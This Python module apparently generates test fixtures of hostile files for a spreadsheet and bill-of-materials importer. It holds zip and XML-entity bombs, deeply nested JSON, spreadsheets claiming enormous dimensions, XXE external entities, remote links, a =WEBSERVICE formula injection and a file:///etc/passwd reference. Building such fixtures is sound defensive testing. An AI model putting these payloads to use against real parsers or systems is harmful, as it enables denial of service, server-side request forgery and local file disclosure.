"""Files as somebody makes them who means harm: bombs, ways out, and words that others might run."""

import gzip
import io
import json
import zipfile
import zlib

__all__ = ["ENTITIES", "bombs", "far_sheets", "leading_out", "opc", "sheet_of"]

# Ten lines that would unpack to ten billion words.
ENTITIES = "<!DOCTYPE x [<!ENTITY a '{}'>{}]>".format(
    "ha " * 10, "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9))
)
_SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:"
_KINDS = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATED = "http://schemas.openxmlformats.org/package/2006/relationships"
_DOCUMENT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def opc(members: dict[str, str | bytes]) -> bytes:
    """Zip some members, as an office document is zipped."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def sheet_of(cell: str, *, before: str = "", more: dict[str, str | bytes] | None = None) -> bytes:
    """Make a workbook of one sheet with a header and one cell; `before` stands before its markup."""
    sheet = (
        f'<?xml version="1.0"?>{before}<worksheet xmlns="{_SPACE}"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Brand</t></is></c></row>'
        f'<row r="2"><c r="A2" t="inlineStr"><is><t>{cell}</t></is></c></row></sheetData></worksheet>'
    )
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return opc(
        {
            "[Content_Types].xml": f'<Types xmlns="{_KINDS}"><Override PartName="/xl/workbook.xml" '
            f'ContentType="{main}"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{_RELATED}"><Relationship Id="r1" Type="{_DOCUMENT}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<workbook xmlns="{_SPACE}" xmlns:r="{_DOCUMENT}"><sheets>'
            '<sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_RELATED}"><Relationship Id="r1" '
            f'Type="{_DOCUMENT}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": sheet,
            **(more or {}),
        }
    )


def far_sheets() -> dict[str, bytes]:
    """Give workbooks of some hundred bytes that make a library ask for half a terabyte, by name.

    One cell in the last corner, said in every way in which a library hears it and a quick look may not.
    """
    words = 't="inlineStr"><is><t>x</t></is></c></row>'
    last = '<row r="1048576"><c {} ' + words
    unplaced = '<row r="1">' + "<c><v>1</v></c>" * 16_000 + '</row><row r="1048576"><c ' + words
    said = {
        "plain": last.format('r="XFD1048576"'),
        "quotes": last.format("r='XFD1048576'"),
        "spaces": last.format('r = "XFD1048576"'),
        "line": last.replace("<c {} ", '<c\n r="XFD1048576" '),
        "lower": last.format('r="xfd1048576"'),
        "greater": last.format('s=">" r="XFD1048576"'),
        "letters": last.format('r="ZZZZZ99999999"'),
        "row": '<row r="4294967295"><c ' + words,
        "unplaced": unplaced,
        "padded": last.format(" " * 5000 + 'r="XFD1048576"'),
    }
    found = {f"far-{name}.xlsx": _rewritten({_SHEET: _sheet(rows)}) for name, rows in said.items()}
    plain, good = _sheet(said["plain"]), sheet_of("Hikvision")
    elsewhere = {"xl/other/a.png": plain, "xl/_rels/workbook.xml.rels": _related_to("other/a.png")}
    texts = f'<sst xmlns="{_SPACE}" uniqueCount="4000000000"><si><t>x</t></si></sst>'
    claimed = {"xl/sharedStrings.xml": texts, "xl/_rels/workbook.xml.rels": _related_to("worksheets/sheet1.xml")}
    return {
        **found,
        "far-elsewhere.xlsx": _rewritten(elsewhere),
        "far-letters-of-the-member.xlsx": _rewritten({"XL/WORKSHEETS/sheet1.xml": plain}, without=_SHEET),
        "far-claimed.xlsx": _rewritten(claimed),
        "far-behind.xlsx": good + _rewritten({_SHEET: plain}),
        "far-comment.xlsx": good + b"PK\x05\x06" + bytes(18),
        "far-quotes.ods": _ods_of(_MANY.replace('"', "'")),
        "far-greater.ods": _ods_of(_MANY.replace("<table:table-cell", '<table:table-cell table:formula=">"')),
    }


_SHEET = "xl/worksheets/sheet1.xml"
_MANY = (
    '<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="16000" '
    'office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
)


def _sheet(rows: str) -> str:
    return f'<?xml version="1.0"?><worksheet xmlns="{_SPACE}"><sheetData>{rows}</sheetData></worksheet>'


def _related_to(sheet: str) -> str:
    return (
        f'<Relationships xmlns="{_RELATED}"><Relationship Id="r1" Type="{_DOCUMENT}/worksheet" Target="{sheet}"/>'
        f'<Relationship Id="r2" Type="{_DOCUMENT}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )


def _rewritten(changed: dict[str, str], *, without: str = "", book: bytes = b"") -> bytes:
    """Give a workbook with some members changed and one left out."""
    archive = zipfile.ZipFile(io.BytesIO(book or sheet_of("x")))
    members: dict[str, str | bytes] = {name: archive.read(name) for name in archive.namelist() if name != without}
    return opc({**members, **changed})


def _ods_of(rows: str) -> bytes:
    """Give an open document with further rows."""
    name = "content.xml"
    content = zipfile.ZipFile(io.BytesIO(_ods("x"))).read(name).decode()
    return _rewritten({name: content.replace("</table:table>", f"{rows}</table:table>")}, book=_ods("x"))


def _ods(cell: str, before: str = "") -> bytes:
    return opc(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "META-INF/manifest.xml": f'<m:manifest xmlns:m="{_OFFICE}manifest:1.0"><m:file-entry m:full-path="/" '
            'm:media-type="application/vnd.oasis.opendocument.spreadsheet"/></m:manifest>',
            "content.xml": f'<?xml version="1.0"?>{before}<office:document-content xmlns:office="{_OFFICE}office:1.0" '
            f'xmlns:table="{_OFFICE}table:1.0" xmlns:text="{_OFFICE}text:1.0"><office:body><office:spreadsheet>'
            '<table:table table:name="S"><table:table-row><table:table-cell office:value-type="string"><text:p>Brand'
            "</text:p></table:table-cell></table:table-row><table:table-row><table:table-cell "
            f'office:value-type="string"><text:p>{cell}</text:p></table:table-cell></table:table-row></table:table>'
            "</office:spreadsheet></office:body></office:document-content>",
        }
    )


def bombs() -> dict[str, bytes]:
    """Give small files that would fill a machine, by name."""
    zeros = b"\0" * (201 << 20)
    deep = 200_000
    picture = zlib.compress(zeros)
    return {
        "ratio.xlsx": opc({"xl/workbook.xml": "<workbook/>", "xl/worksheets/sheet1.xml": zeros}),
        "ratio.ods": opc({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": zeros}),
        "ratio.docx": opc({"word/document.xml": zeros}),
        "ratio.zip": opc({"a.csv": zeros}),
        "ratio.csv": gzip.compress(zeros),
        "ratio.pdf": b"%%PDF-1.7\n1 0 obj\n<</Length %d/Filter/FlateDecode>>stream\n" % len(picture) + picture,
        "entities.xlsx": sheet_of("&j;", before=ENTITIES),
        "entities.ods": _ods("&j;", ENTITIES),
        "deep.json": b"[" * deep + b"]" * deep,
        "deep.cdx.json": b'{"bomFormat": "CycloneDX", "components": ' + b"[" * deep + b"]" * deep + b"}",
        "deep.jsonl": b'{"a":' * deep + b"1" + b"}" * deep,
        "wide.csv": b"Brand" + b",x" * 1_500_000 + b"\n",
        "cell.csv": b'Brand\n"' + b"x" * (3 << 20) + b'"\n',
        "quote.csv": b'Brand\n"' + b"never closed\n" * 200_000,
        "nul.csv": b"Brand\n" + b"\0" * (3 << 20),
    }


def leading_out(address: str) -> dict[str, bytes]:
    """Give files that ask whoever reads them to fetch something from an address, by name."""
    outside = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{address}/entity"><!ENTITY % b SYSTEM "{address}/dtd"> %b;]>'
    link = (
        f'<Relationships xmlns="{_RELATED}"><Relationship Id="r1" Type="{_DOCUMENT}/externalLinkPath" '
        f'Target="{address}/book.xlsx" TargetMode="External"/></Relationships>'
    )
    picture = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{address}/image"/></svg>'
    device = {
        "type": "device",
        "name": "Hikvision DS-2CD2143G2-I",
        "externalReferences": [{"type": "website", "url": f"{address}/site"}, {"type": "bom", "url": f"{address}/bom"}],
    }
    bill = {"bomFormat": "CycloneDX", "specVersion": "1.6", "$schema": f"{address}/schema", "components": [device]}
    return {
        "entity.xlsx": sheet_of("&a;", before=outside),
        "linked.xlsx": sheet_of("Hikvision", more={"xl/externalLinks/_rels/externalLink1.xml.rels": link}),
        "entity.ods": _ods("&a;", outside),
        "bill.cdx.json": json.dumps(bill).encode(),
        "picture.svg": picture.encode(),
        "page.html": f'<!doctype html><link rel="stylesheet" href="{address}/s"><img src="{address}/i">'.encode(),
        "formula.csv": f'Brand,Model\n"=WEBSERVICE(""{address}/formula"")",{address}/model\n'.encode(),
        "address.csv": f"Brand\n{address}/brand\nfile:///etc/passwd\n".encode(),
    }
